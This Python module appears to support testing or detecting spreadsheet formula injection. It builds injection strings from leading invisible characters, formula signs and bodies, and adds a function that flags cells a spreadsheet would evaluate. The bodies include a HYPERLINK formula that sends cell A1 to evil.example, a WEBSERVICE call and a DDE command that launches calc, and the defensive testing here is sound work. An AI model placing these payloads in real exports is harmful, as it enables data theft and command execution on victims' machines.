"""What a spreadsheet would calculate, or send somewhere, if a cell of a table began with it."""

import re
import unicodedata

LEADS = ("", " ", "\u00a0", "\u3000\u2003", "\u200b", "\ufeff", "a\n", "a\r\n ", "a;", "\t", "a\t")
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BODIES = (
    'HYPERLINK("http://evil.example/?x="&A1,"x")',
    "cmd|' /C calc'!A0",
    'SUM(1+1)*WEBSERVICE("http://evil.example")',
    "1+1",
)  # fmt: skip
FORMULAS = tuple(lead + sign + body for lead in LEADS for sign in SIGNS for body in BODIES)

_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")


def live(cell: str) -> list[str]:
    """The stretches of a cell that some spreadsheet would take for a formula.

    A stretch begins with the cell, a line, a tab or a semicolon; what cannot be seen is passed over.
    """
    stretches = re.split(r"[\n\r\t;]", cell)
    return [one for one in stretches if _first(one) in {"=", "+", "-", "@"} and not _NUMBER.fullmatch(cell)]


def _first(text: str) -> str:
    """The first sign that can be seen, in its plain form."""
    shown = (letter for letter in text if unicodedata.category(letter)[0] not in "ZC")
    return unicodedata.normalize("NFKC", next(shown, ""))
